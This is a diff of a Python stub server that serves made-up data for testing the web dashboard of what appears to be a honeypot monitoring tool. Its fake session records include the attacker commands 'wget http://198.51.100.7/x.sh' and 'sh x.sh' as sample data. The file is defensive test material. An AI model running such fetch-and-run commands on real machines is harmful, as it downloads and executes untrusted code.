@@ -1,34 +1,25 @@
-"""A server that answers as the API does, from made-up data, and misbehaves on demand: the page's counterpart in tests."""
+"""A server that answers as the API does, from made-up data, and misbehaves on demand."""
 
 import asyncio
-import contextlib
 import json
-import mimetypes
-import sys
-import threading
 import time
-from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
-from pathlib import Path
+from collections.abc import AsyncIterator, Awaitable, Callable
 
-import uvicorn
 from starlette.applications import Starlette
 from starlette.requests import Request
-from starlette.responses import FileResponse, JSONResponse, PlainTextResponse, Response, StreamingResponse
+from starlette.responses import JSONResponse, Response, StreamingResponse
 from starlette.routing import Route
 
-from tests.page_data import ARCHETYPES, OUTBOX, WORKERS, House, Json, transcript
+from tests.page_answers import OUTBOX, WORKERS, frame, page, paged, problem, transcript
+from tests.page_data import ARCHETYPES, House, Json
 
-PAGE = Path(__file__).parent.parent / "web" / "dist"
 API = "/api/v1"
-CSP = ("default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; img-src 'self'; "
-       "connect-src 'self'; frame-ancestors 'none'")
-PASSWORD = "correct horse battery"  # noqa: S105
-TITLES = {401: "Unauthorized", 403: "Forbidden", 404: "Not Found", 409: "Conflict", 429: "Too Many Requests",
-          500: "Internal Server Error"}
+PASSWORD = "correct horse battery"
 Handler = Callable[[Request], Awaitable[Response]]
 
 
-def _micros() -> int:
+def micros() -> int:
+    """Now."""
     return time.time_ns() // 1000
 
 
@@ -65,7 +56,7 @@ class Stub:
         """Lets events happen: they are in the list and on the stream."""
         items: list[Json] = []
         for _ in range(count):
-            items.append(self.house.event(self.next_seq, _micros()))
+            items.append(self.house.event(self.next_seq, micros()))
             self.next_seq += 1
         self.house.logs[:0] = reversed(items)
         self.push("log", {"items": items, "dropped": 0}, self.next_seq - 1)
@@ -74,32 +65,37 @@ class Stub:
     # answers
 
     def _grant(self) -> Json:
-        return {"access_token": "stub-token", "token_type": "bearer", "expires_in": 900,
-                "must_change_password": self.must_change, "user": {"username": "ana", "role": self.role}}
+        return {
+            "access_token": "stub-token",
+            "token_type": "bearer",
+            "expires_in": 900,
+            "must_change_password": self.must_change,
+            "user": {"username": "ana", "role": self.role},
+        }
 
-    async def login(self, request: Request) -> Response:
+    async def _login(self, request: Request) -> Response:
         body = await request.json()
         if body["password"] != PASSWORD:
             return problem(401, "Wrong name or password")
         self.signed_in = True
         return JSONResponse(self._grant())
 
-    async def refresh(self, _: Request) -> Response:
+    async def _refresh(self, _: Request) -> Response:
         return JSONResponse(self._grant()) if self.signed_in else problem(401, "No session")
 
-    async def logout(self, _: Request) -> Response:
+    async def _logout(self, _: Request) -> Response:
         self.signed_in = False
         return Response(status_code=204)
 
-    async def password(self, _: Request) -> Response:
+    async def _password(self, _: Request) -> Response:
         self.must_change = False
         return Response(status_code=204)
 
-    async def ticket(self, _: Request) -> Response:
+    async def _ticket(self, _: Request) -> Response:
         self.tickets += 1
         return JSONResponse({"ticket": f"t{self.tickets}", "expires_in": 30})
 
-    async def stream(self, request: Request) -> Response:
+    async def _stream(self, request: Request) -> Response:
         if self.cut:
             return problem(500, "cut")
         after = int(request.query_params.get("after", "0"))
@@ -120,132 +116,175 @@ class Stub:
                     name, data, seq = await asyncio.wait_for(queue.get(), 0.5)
                     yield frame(name, data, seq)
                 except TimeoutError:
-                    self.house.now = _micros()
+                    self.house.now = micros()
                     yield frame("stats", self.house.stats(), 0)
         finally:
             self._outgoing.remove(queue)
             self.streams -= 1
 
-    async def logs(self, request: Request) -> Response:
+    async def _logs(self, request: Request) -> Response:
         ask = request.query_params
         found = [item for item in self.house.logs if _matches(item, dict(ask))]
         if ask.get("order") == "asc":
             found = found[::-1]
         return paged(found, request)
 
-    async def log(self, request: Request) -> Response:
+    async def _log(self, request: Request) -> Response:
         seq = int(request.path_params["seq"])
         found = next((item for item in self.house.logs if item["seq"] == seq), None)
         return JSONResponse(found) if found else problem(404, "No such event")
 
-    async def raw(self, request: Request) -> Response:
+    async def _raw(self, request: Request) -> Response:
         seq = int(request.path_params["seq"])
-        return JSONResponse({"seq": seq, "line": "<134>1 2026-01-02T14:02:31.114Z decky-01 ssh - command.issued "
-                             f'[decnet@1 v="1" n="{seq}"][fact@1 line="uname -a"] secret=***'})
+        return JSONResponse(
+            {
+                "seq": seq,
+                "line": "<134>1 2026-01-02T14:02:31.114Z decky-01 ssh - command.issued "
+                f'[decnet@1 v="1" n="{seq}"][fact@1 line="uname -a"] secret=***',
+            }
+        )
 
-    async def histogram(self, request: Request) -> Response:
+    async def _histogram(self, request: Request) -> Response:
         ask = request.query_params
-        now = _micros()
+        now = micros()
         return JSONResponse(self.house.histogram(int(ask.get("since", "0")), int(ask.get("until", now)), ask["by"]))
 
-    async def stats(self, _: Request) -> Response:
-        self.house.now = _micros()
+    async def _stats(self, _: Request) -> Response:
+        self.house.now = micros()
         return JSONResponse(self.house.stats())
 
-    async def stories(self, request: Request) -> Response:
+    async def _stories(self, request: Request) -> Response:
         ask = request.query_params
         state = ask.get("state", "all")
-        rows = [item for item in self.house.stories
-                if int(str(item["depth"])) >= int(ask.get("min_depth", "0")) and state in ("all", item["state"])
-                and ask.get("attacker") in (None, _actor(item))]
+        rows = [
+            item
+            for item in self.house.stories
+            if int(str(item["depth"])) >= int(ask.get("min_depth", "0"))
+            and state in ("all", item["state"])
+            and ask.get("attacker") in (None, _actor(item))
+        ]
         return paged(rows, request)
 
-    async def triage(self, request: Request) -> Response:
+    async def _triage(self, request: Request) -> Response:
         action = (await request.json())["action"]
         story = next(item for item in self.house.stories if item["id"] == request.path_params["id"])
         story["state"] = {"acknowledge": "acknowledged", "mute": "muted", "reopen": "open"}[action]
         self.push("story", {"story": story})
         return JSONResponse(story)
 
-    async def attackers(self, request: Request) -> Response:
+    async def _attackers(self, request: Request) -> Response:
         ask = request.query_params
-        rows = [item for item in self.house.attackers
-                if ask.get("search", "") in str(item["peer"])
-                and int(str(item["depth"])) >= int(ask.get("min_depth", "0"))]
+        rows = [
+            item
+            for item in self.house.attackers
+            if ask.get("search", "") in str(item["peer"]) and int(str(item["depth"])) >= int(ask.get("min_depth", "0"))
+        ]
         order = {"depth": "depth", "active": "events"}.get(ask.get("sort", ""), "last_seen")
         return paged(sorted(rows, key=lambda item: -int(str(item[order]))), request)
 
-    async def attacker(self, request: Request) -> Response:
+    async def _attacker(self, request: Request) -> Response:
         found = _by(self.house.attackers, "uuid", request.path_params["id"])
         if not found:
             return problem(404, "No such attacker")
         story = next(item for item in self.house.stories if _actor(item) == found["uuid"])
-        return JSONResponse({**found, "software": ["SSH-2.0-libssh_0.9.6"], "hassh": ["92674389fa1e47a27ddd8d9b63ecd42b"],
-                             "story_id": story["id"], "credentials_tried": 12, "accepted_logins": 2,
-                             "commands_recent": ["uname -a"]})
+        return JSONResponse(
+            {
+                **found,
+                "software": ["SSH-2.0-libssh_0.9.6"],
+                "hassh": ["92674389fa1e47a27ddd8d9b63ecd42b"],
+                "story_id": story["id"],
+                "credentials_tried": 12,
+                "accepted_logins": 2,
+                "commands_recent": ["uname -a"],
+            }
+        )
 
-    async def timeline(self, request: Request) -> Response:
+    async def _timeline(self, request: Request) -> Response:
         attacker = _by(self.house.attackers, "uuid", request.path_params["id"])
         kinds = [kind for kind in request.query_params.get("kinds", "").split(",") if kind]
-        rows = [item for item in self.house.logs
-                if attacker and item["peer"] == attacker["peer"] and (not kinds or item["kind"] in kinds)]
+        rows = [
+            item
+            for item in self.house.logs
+            if attacker and item["peer"] == attacker["peer"] and (not kinds or item["kind"] in kinds)
+        ]
         return paged(rows[::-1] if request.query_params.get("order") == "asc" else rows, request)
 
-    async def sessions(self, request: Request) -> Response:
+    async def _sessions(self, request: Request) -> Response:
         ask = request.query_params
-        rows = [item for item in self.house.sessions
-                if (ask.get("live") != "1" or item["ended"] is None)
-                and ask.get("attacker") in (None, item["attacker_uuid"]) and ask.get("decky") in (None, item["decky"])
-                and ask.get("service") in (None, item["service"])
-                and (ask.get("recording") != "1" or item["recording"] in ("live", "recorded"))]
+        rows = [
+            item
+            for item in self.house.sessions
+            if (ask.get("live") != "1" or item["ended"] is None)
+            and ask.get("attacker") in (None, item["attacker_uuid"])
+            and ask.get("decky") in (None, item["decky"])
+            and ask.get("service") in (None, item["service"])
+            and (ask.get("recording") != "1" or item["recording"] in ("live", "recorded"))
+        ]
         return paged(rows, request)
 
-    async def session(self, request: Request) -> Response:
+    async def _session(self, request: Request) -> Response:
         found = _by(self.house.sessions, "sid", request.path_params["id"])
         if not found:
             return problem(404, "No such session")
         started = int(str(found["started"]))
-        commands = [{"at": started + round((1.6 + index * 8.3) * 1_000_000), "seq": index + 1, "line": line, "effect": "read"}
-                    for index, line in enumerate(("uname -a", "id", "wget http://198.51.100.7/x.sh", "sh x.sh"))]
+        commands = [
+            {"at": started + round((1.6 + index * 8.3) * 1_000_000), "seq": index + 1, "line": line, "effect": "read"}
+            for index, line in enumerate(("uname -a", "id", "wget http://198.51.100.7/x.sh", "sh x.sh"))
+        ]
         terminal = found["recording"] in ("live", "recorded")
         return JSONResponse({**found, "commands": commands if terminal else [], "transcript": terminal})
 
-    async def transcript(self, request: Request) -> Response:
+    async def _transcript(self, request: Request) -> Response:
         found = _by(self.house.sessions, "sid", request.path_params["sid"])
         return JSONResponse(transcript(found)) if found else problem(404, "No such recording")
 
-    async def deckies(self, request: Request) -> Response:
+    async def _deckies(self, request: Request) -> Response:
         return paged(self.house.deckies, request)
 
-    async def decky(self, request: Request) -> Response:
+    async def _decky(self, request: Request) -> Response:
         found = _by(self.house.deckies, "name", request.path_params["name"])
         return JSONResponse(found) if found else problem(404, "No such decky")
 
-    async def accepted(self, _: Request) -> Response:
+    async def _accepted(self, _: Request) -> Response:
         return JSONResponse({"deckies": [], "generation": 2}, status_code=202)
 
-    async def reveal(self, request: Request) -> Response:
+    async def _reveal(self, request: Request) -> Response:
         return JSONResponse({"id": request.path_params["id"], "secret": "hunter2\x1b[31m"})
 
-    async def alerts(self, request: Request) -> Response:
+    async def _alerts(self, request: Request) -> Response:
         if request.method == "PUT":
             return JSONResponse(await request.json())
-        return JSONResponse({
-            "webhook": {"enabled": True, "url": "https://hooks.example/decnet", "secret": "***", "min_depth": 3},
-            "mail": {"enabled": False, "host": "", "port": 587, "sender": "", "recipient": "", "tls": True,
-                     "username": "", "password": "", "min_depth": 3}, "allow": ["10.0.0.0/8"]})
+        return JSONResponse(
+            {
+                "webhook": {"enabled": True, "url": "https://hooks.example/decnet", "secret": "***", "min_depth": 3},
+                "mail": {
+                    "enabled": False,
+                    "host": "",
+                    "port": 587,
+                    "sender": "",
+                    "recipient": "",
+                    "tls": True,
+                    "username": "",
+                    "password": "",
+                    "min_depth": 3,
+                },
+                "allow": ["10.0.0.0/8"],
+            }
+        )
 
-    async def tested(self, _: Request) -> Response:
+    async def _tested(self, _: Request) -> Response:
         return JSONResponse({"ok": False, "detail": "connection refused"})
 
     def _listing(self, rows: Callable[[], list[Json]]) -> Handler:
         async def handler(request: Request) -> Response:
             return paged(rows(), request)
+
         return handler
 
     def _whole(self, rows: Callable[[], list[Json]]) -> Handler:
         async def handler(_: Request) -> Response:
             return JSONResponse(rows())
+
         return handler
 
     def _guarded(self, handler: Handler) -> Handler:
@@ -258,38 +297,64 @@ class Stub:
                 if path.startswith(prefix) and not path.startswith("/auth"):
                     return problem(status, f"the stub was told to answer {status}")
             return await handler(request)
+
         return guarded
 
     def app(self) -> Starlette:
         """The server."""
-        archetypes: list[Json] = [{"key": key, "summary": summary, "services": list(services), "distros": ["debian"]}
-                                  for key, summary, services in ARCHETYPES]
+        archetypes: list[Json] = [
+            {"key": key, "summary": summary, "services": list(services), "distros": ["debian"]}
+            for key, summary, services in ARCHETYPES
+        ]
         house = self.house
         table: list[tuple[str, str, Handler]] = [
-            ("POST", "/auth/login", self.login), ("POST", "/auth/refresh", self.refresh),
-            ("POST", "/auth/logout", self.logout), ("PUT", "/auth/password", self.password),
-            ("POST", "/auth/sse-ticket", self.ticket), ("GET", "/stream", self.stream),
-            ("GET", "/logs", self.logs), ("GET", "/logs/histogram", self.histogram), ("GET", "/logs/{seq:int}", self.log),
-            ("GET", "/logs/{seq:int}/raw", self.raw), ("GET", "/stats", self.stats), ("GET", "/stories", self.stories),
-            ("POST", "/stories/{id}/triage", self.triage), ("GET", "/attackers", self.attackers),
-            ("GET", "/attackers/{id}", self.attacker), ("GET", "/attackers/{id}/timeline", self.timeline),
-            ("GET", "/attackers/{id}/sessions", self.sessions), ("GET", "/sessions", self.sessions),
-            ("GET", "/sessions/{id}", self.session), ("GET", "/transcripts/{decky}/{sid}", self.transcript),
-            ("GET", "/deckies", self.deckies), ("POST", "/deckies", self.accepted),
-            ("GET", "/deckies/{name}", self.decky), ("DELETE", "/deckies/{name}", self.accepted),
+            ("POST", "/auth/login", self._login),
+            ("POST", "/auth/refresh", self._refresh),
+            ("POST", "/auth/logout", self._logout),
+            ("PUT", "/auth/password", self._password),
+            ("POST", "/auth/sse-ticket", self._ticket),
+            ("GET", "/stream", self._stream),
+            ("GET", "/logs", self._logs),
+            ("GET", "/logs/histogram", self._histogram),
+            ("GET", "/logs/{seq:int}", self._log),
+            ("GET", "/logs/{seq:int}/raw", self._raw),
+            ("GET", "/stats", self._stats),
+            ("GET", "/stories", self._stories),
+            ("POST", "/stories/{id}/triage", self._triage),
+            ("GET", "/attackers", self._attackers),
+            ("GET", "/attackers/{id}", self._attacker),
+            ("GET", "/attackers/{id}/timeline", self._timeline),
+            ("GET", "/attackers/{id}/sessions", self._sessions),
+            ("GET", "/sessions", self._sessions),
+            ("GET", "/sessions/{id}", self._session),
+            ("GET", "/transcripts/{decky}/{sid}", self._transcript),
+            ("GET", "/deckies", self._deckies),
+            ("POST", "/deckies", self._accepted),
+            ("GET", "/deckies/{name}", self._decky),
+            ("DELETE", "/deckies/{name}", self._accepted),
             ("GET", "/archetypes", self._whole(lambda: archetypes)),
             ("GET", "/credentials", self._listing(lambda: house.credentials)),
-            ("POST", "/credentials/{id}/reveal", self.reveal),
-            ("GET", "/workers", self._whole(lambda: [{**item, "last_seen": _micros()} for item in WORKERS])),
-            ("POST", "/workers/{name}/{deed}", self.accepted), ("GET", "/alerts", self.alerts),
-            ("PUT", "/alerts", self.alerts), ("POST", "/alerts/test", self.tested),
-            ("GET", "/alerts/outbox", self._listing(lambda: [{**item, "created_at": _micros()} for item in OUTBOX])),
-            ("GET", "/users", self._listing(lambda: [{"username": "ana", "role": "admin", "must_change_password": False},
-                                                     {"username": "ben", "role": "viewer", "must_change_password": True}])),
-            ("POST", "/users", self.accepted),
+            ("POST", "/credentials/{id}/reveal", self._reveal),
+            ("GET", "/workers", self._whole(lambda: [{**item, "last_seen": micros()} for item in WORKERS])),
+            ("POST", "/workers/{name}/{deed}", self._accepted),
+            ("GET", "/alerts", self._alerts),
+            ("PUT", "/alerts", self._alerts),
+            ("POST", "/alerts/test", self._tested),
+            ("GET", "/alerts/outbox", self._listing(lambda: [{**item, "created_at": micros()} for item in OUTBOX])),
+            (
+                "GET",
+                "/users",
+                self._listing(
+                    lambda: [
+                        {"username": "ana", "role": "admin", "must_change_password": False},
+                        {"username": "ben", "role": "viewer", "must_change_password": True},
+                    ]
+                ),
+            ),
+            ("POST", "/users", self._accepted),
         ]
         routes = [Route(API + path, self._guarded(handler), methods=[method]) for method, path, handler in table]
-        routes.append(Route("/{path:path}", _page))
+        routes.append(Route("/{path:path}", page))
         return Starlette(routes=routes)
 
 
@@ -310,69 +375,3 @@ def _actor(story: Json) -> object:
 
 def _by(rows: list[Json], name: str, value: str) -> Json | None:
     return next((item for item in rows if item[name] == value), None)
-
-
-def paged(rows: list[Json], request: Request) -> Response:
-    """The part of a list that was asked for."""
-    limit = int(request.query_params.get("limit", "100"))
-    start = int(request.query_params.get("after", "0"))
-    end = start + limit
-    return JSONResponse({"items": rows[start:end], "next": str(end) if end < len(rows) else None})
-
-
-def problem(status: int, detail: str) -> Response:
-    """An error in the shape of RFC 9457."""
-    body: Json = {"type": "about:blank", "title": TITLES[status], "status": status, "detail": detail}
-    if status == 500:
-        body["error_id"] = "0f" * 16
-    headers = {"Retry-After": "3"} if status == 429 else {}
-    return JSONResponse(body, status_code=status, headers=headers, media_type="application/problem+json")
-
-
-def frame(name: str, data: Json, seq: int) -> str:
-    """One message of an event stream."""
-    number = f"id: {seq}\n" if seq else ""
-    return f"event: {name}\n{number}data: {json.dumps(data)}\n\n"
-
-
-async def _page(request: Request) -> Response:
-    wanted = PAGE / request.path_params["path"]
-    found = wanted if wanted.is_file() else PAGE / "index.html"
-    if not found.is_file():
-        return PlainTextResponse("The page is not built.", status_code=404)
-    kind = mimetypes.guess_type(found.name)[0] or "application/octet-stream"
-    return FileResponse(found, media_type=kind, headers={"Content-Security-Policy": CSP,
-                                                         "X-Content-Type-Options": "nosniff"})
-
-
-@contextlib.contextmanager
-def served(stub: Stub, port: int = 0) -> Iterator[str]:
-    """Serves the stub on 127.0.0.1 while the block lasts; yields its origin."""
-    server = uvicorn.Server(uvicorn.Config(stub.app(), host="127.0.0.1", port=port, log_level="error",
-                                           timeout_graceful_shutdown=1))
-    thread = threading.Thread(target=server.run, daemon=True)
-    thread.start()
-    while not server.started:
-        time.sleep(0.01)
-    bound = server.servers[0].sockets[0].getsockname()[1]
-    try:
-        yield f"http://127.0.0.1:{bound}"
-    finally:
-        stub.cut = True
-        server.should_exit = True
-        thread.join(timeout=5)
-
-
-def main(port: int) -> None:
-    """Serves a lively house until interrupted, to look at while the page is worked on."""
-    stub = Stub(House(_micros()))
-    with served(stub, port) as origin, contextlib.suppress(KeyboardInterrupt):
-        sys.stdout.write(f"{origin}  ana / {PASSWORD}\n")
-        while True:
-            time.sleep(1)
-            if stub.streams:
-                stub.happen(2)
-
-
-if __name__ == "__main__":
-    main(int(sys.argv[1]) if len(sys.argv) > 1 else 8000)
